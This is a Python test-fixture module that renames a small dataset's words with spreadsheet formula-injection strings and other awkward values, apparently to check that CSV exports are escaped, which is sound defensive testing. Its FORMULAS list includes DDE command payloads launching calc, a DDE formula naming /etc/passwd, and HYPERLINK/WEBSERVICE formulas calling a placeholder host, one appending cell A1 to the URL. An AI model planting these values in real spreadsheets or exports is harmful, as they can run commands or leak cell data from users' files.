"""A dataset whose names are what a spreadsheet takes for a formula, or what a reader takes for something else.

It is the small dataset of the fixtures with every word in it named anew; the folder Tests/Browser does the same for HTML.
"""

import shutil
from itertools import count
from pathlib import Path

import hostile_names

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=SUM(1;2)",
    "=A1",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.invalid/?"&A1,"札幌市")',
    '=HYPERLINK("http://example.invalid/";"札幌市")',
    '=WEBSERVICE("http://example.invalid/")',
    '=DDE("soffice";"/etc/passwd";"x")',
    '=IMPORTXML("http://example.invalid/";"//a")',
    '="011002"',
    "＝1+1",
    "＋1＋1",
    "－1＋1",
    "＠SUM(1)",
    "\t=1+1",
    "  =1+1",
    "\u3000=1+1",
    "\ufeff=1+1",
    "'=1+1",
    '"=1+1"',
]

OTHERS = [
    "NA",
    "null",
    "None",
    "n/a",
    "none",
    "-",
    "0",
    "007",
    "1e5",
    "0x1F",
    "１",
    "true",
    "2024-04-01",
    "１２／３４",
    "#注",
    "\\N",
    "\\",
    'a\\"b',
    '"',
    '""',
    "a,b",
    "a;b",
    "a\tb",
    " 前後に空白 ",
    "'",
]


def write(small: Path, folder: Path) -> None:
    """Writes the dataset. Each new word gets the next name of the list, and a number at its end when the list is used up."""
    names = FORMULAS + OTHERS
    numbers = count()
    known = {"": ""}

    def name(word: str) -> str:
        if word not in known:
            number = next(numbers)
            known[word] = names[number % len(names)] + (str(number) if number >= len(names) else "")
        return known[word]

    hostile_names.write(small, folder, name)


def begin_with_a_line_break(small: Path, folder: Path) -> None:
    """Writes the dataset with one initiative's name that begins with CR, quoted as it has to be."""
    shutil.copytree(small, folder)
    path = folder / "sapporo/sample/initiatives.csv"
    path.write_bytes(path.read_bytes().replace("連絡会議の開催".encode(), b'"\r=1+1"'))
